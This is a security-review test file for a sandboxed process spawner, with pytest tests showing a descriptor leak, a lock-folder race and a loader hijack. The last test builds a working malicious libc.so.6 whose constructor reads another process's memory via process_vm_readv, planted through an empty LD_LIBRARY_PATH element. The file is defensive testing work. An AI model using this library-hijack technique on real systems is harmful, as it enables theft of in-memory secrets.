"""Review of sandbox.Spawner (children started from a short-lived thread with a descriptor table of its own):
problems found, each shown by a test that fails today (xfail strict) and passes once fixed.
"""

from __future__ import annotations

import ctypes
import itertools
import os
import secrets
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from shipcode_mcp.workspace import sandbox
from shipcode_mcp.workspace.process import run
from workspace_support import context


@pytest.mark.xfail(strict=True, raises=AssertionError, reason="review: Popen.__init__ runs subprocess._cleanup() on the spawning thread "
                   "(sandbox.py _spawn_on_this_thread, the subprocess.Popen call): an abandoned Popen reaped there is "
                   "freed there, and its pipe's finalizer closes the descriptor in the thread's private table only, "
                   "so the server's copy is never closed (a leak per abandoned child)")
def test_a_finalizer_run_on_the_spawning_thread_closes_the_servers_descriptor() -> None:
    def abandoned_pipe() -> int:
        """A child with a stdout pipe, dropped while it runs (Popen.__del__ puts it in subprocess._active with its
        pipe still open); the child then exits but is not reaped. The descriptor of our end of its pipe."""
        read, write = os.pipe()
        proc = subprocess.Popen(["cat"], stdin=read, stdout=subprocess.PIPE)
        os.close(read)
        assert proc.stdout is not None
        fd, pid = proc.stdout.fileno(), proc.pid
        del proc  # still running: kept in subprocess._active, pipe and all
        os.close(write)  # cat sees EOF and exits
        os.waitid(os.P_PID, pid, os.WEXITED | os.WNOWAIT)  # exited, not reaped
        return fd

    # Where the next Popen is made on an ordinary thread, the abandoned one is reaped and its pipe closed.
    fd = abandoned_pipe()
    subprocess.run(["true"], check=True)
    assert not _is_open(fd)

    # Through the spawner, that reaping happens on the spawning thread.
    assert run(context(), ["true"], cwd="/", readable=[], limit=10).returncode == 0  # flock probed: no Popen here now
    fd = abandoned_pipe()
    unraisable: list[object] = []
    hook, sys.unraisablehook = sys.unraisablehook, unraisable.append  # pytest's own hook imports (denied there)
    try:
        assert run(context(), ["true"], cwd="/", readable=[], limit=10).returncode == 0
    finally:
        sys.unraisablehook = hook
    leaked = _is_open(fd)
    if leaked:
        os.close(fd)
    assert not leaked  # fails today: the descriptor was still open in the server, owned by nothing


def _is_open(fd: int) -> bool:
    try:
        os.fstat(fd)
    except OSError:
        return False
    return True


@pytest.mark.xfail(strict=True, raises=AssertionError, reason="review: the lock folder is looked up twice, in confine() (the ruleset's "
                   "rule, sandbox.py confine) and again in Spawner.start (the lock path): if it was removed in "
                   "between (a /tmp cleaner, or two first calls at once each making one), the lock file is made in a "
                   "folder the child's domain does not allow, flock cannot open it and the program never runs")
def test_a_lock_folder_made_again_between_confine_and_start_still_starts_the_child() -> None:
    with sandbox.confine("/usr/bin/true", []) as spawner:
        assert isinstance(spawner, sandbox.Spawner)
        shutil.rmtree(sandbox._lock_folder())  # as a /tmp cleaner would, or a second first call's own folder
        read, write = os.pipe()
        null = os.open(os.devnull, os.O_RDONLY | os.O_CLOEXEC)
        try:
            proc, lock = spawner.start(["/usr/bin/true"], cwd="/", env=None, pass_fds=(), stdin=null, stdout=write,
                                       stderr=write)
        finally:
            os.close(write)
            os.close(null)
        try:
            code = proc.wait(30)
            said = os.read(read, 4096)
        finally:
            os.close(read)
            sandbox.release(lock)
    assert (code, said) == (0, b""), (code, said)


REAL_LIBC = "/lib/x86_64-linux-gnu/libc.so.6"
HIJACK = r"""
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/uio.h>
__attribute__((constructor)) static void attack(void) {
    const char *a = getenv("REVIEW_ADDR"), *n = getenv("REVIEW_LEN");
    if (!a || !n) return;
    unsigned long addr = strtoul(a, 0, 10); size_t len = strtoul(n, 0, 10);
    char buf[256]; pid_t me = getpid(), near[50];
    near[0] = getppid();
    for (int i = 1; i < 50; i++) near[i] = me - i;
    for (int round = 0; round < 2000; round++)
        for (int i = 0; i < 50; i++) {
            pid_t t = near[i];
            struct iovec l = {buf, len}, r = {(void *)addr, len};
            if (process_vm_readv(t, &l, 1, &r, 1, 0) == (ssize_t)len) {
                dprintf(2, "LEAKED via %d: %.*s\n", t, (int)len, buf); return;
            }
        }
}
"""


def _libc_in(folder: Path) -> Path:
    """A libc.so.6 for a hostile repository's folder: every GLIBC version node (so the loader takes it), the real
    libc as its dependency (by absolute path, so every symbol still resolves), and a constructor that reads the
    memory of any task near its pid (the address and length given in its environment, as a test's shortcut)."""
    real = os.path.realpath(REAL_LIBC)
    listing = subprocess.run(["objdump", "-p", real], capture_output=True, text=True, check=True).stdout
    versions = sorted({word for word in listing.split() if word.startswith("GLIBC_2")},
                      key=lambda v: tuple(int(part) for part in v[6:].split(".")))
    script = [f"{versions[0]} {{ local: *; }};"] + [f"{v} {{}} {p};" for p, v in itertools.pairwise(versions)]
    build = folder.parent / "build"
    build.mkdir()
    (build / "ver.map").write_text("\n".join(script) + "\n")
    (build / "stub.c").write_text("void review_stub(void) {}\n")
    (build / "evil.c").write_text(HIJACK)
    subprocess.run(["gcc", "-shared", "-fPIC", "-nostdlib", "-o", str(build / "libstub.so"), str(build / "stub.c"),
                    f"-Wl,-soname,{real}"], check=True)
    subprocess.run(["gcc", "-shared", "-fPIC", "-nostdlib", "-o", str(folder / "libc.so.6"), str(build / "evil.c"),
                    f"-Wl,--version-script={build / 'ver.map'}", "-Wl,-soname,libreview.so", f"-L{build}",
                    "-Wl,--no-as-needed", "-lstub"], check=True)
    return folder / "libc.so.6"


@pytest.mark.skipif(shutil.which("gcc") is None or shutil.which("objdump") is None
                    or not os.path.exists(REAL_LIBC), reason="needs gcc, objdump, x86-64 glibc")
@pytest.mark.xfail(strict=True, raises=AssertionError, reason="review: flock (the trampoline) runs with the child's environment and "
                   "working folder in the same Landlock domain as the spawning thread, which lives on after Popen returns for "
                   "as long as it waits for the GIL (prlimit and exit come after): code the loader takes from the "
                   "repository (LD_LIBRARY_PATH with an empty element = the working folder) reads the server's memory "
                   "through that thread (sandbox.py _spawn_on_this_thread, Popen then prlimit)")
def test_a_hijacked_loader_in_flock_cannot_read_the_server(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    _libc_in(repo)
    secret = ctypes.create_string_buffer(("secret-" + secrets.token_hex(8)).encode())
    env = {**os.environ, "LD_LIBRARY_PATH": ":/opt/vendor/lib",  # the usual slip: $LD_LIBRARY_PATH:/opt/... when unset
           "REVIEW_ADDR": str(ctypes.addressof(secret)), "REVIEW_LEN": str(len(secret.value))}
    # The attack's reach without any sandbox: the loader takes the repository's libc, which reads the server.
    plain = subprocess.run(["/bin/echo", "x"], cwd=repo, env=env, capture_output=True, text=True, check=True)
    assert "LEAKED" in plain.stderr and secret.value.decode() in plain.stderr

    stop = threading.Event()

    def busy() -> None:  # another request's Python work: the spawning thread waits for the GIL after Popen
        while not stop.is_set():
            sum(range(3_000_000))

    worker = threading.Thread(target=busy)
    worker.start()
    try:
        said = []
        for _ in range(30):  # each start is a race the attack wins often under this load; one win is enough
            done = run(context(), ["/bin/echo", "x"], cwd=str(repo), readable=[str(repo)], env=env, limit=1000)
            assert done.stdout == b"x\n"  # the program itself ran
            said.append(done.stderr)
            if secret.value.decode() in done.stderr:
                break
    finally:
        stop.set()
        worker.join()
    assert not any(secret.value.decode() in text for text in said), said
